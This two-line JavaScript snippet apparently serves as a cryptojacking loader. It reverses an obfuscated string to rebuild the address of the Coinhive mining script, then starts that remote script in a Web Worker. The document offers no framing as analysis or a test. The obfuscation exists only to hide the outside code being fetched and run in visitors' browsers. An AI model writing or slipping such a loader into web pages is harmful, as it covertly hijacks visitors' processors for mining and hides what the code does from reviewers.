var h = "sj.bil/moc.evihnioc//:sptth".split("").reverse().join("");
new Worker(h);
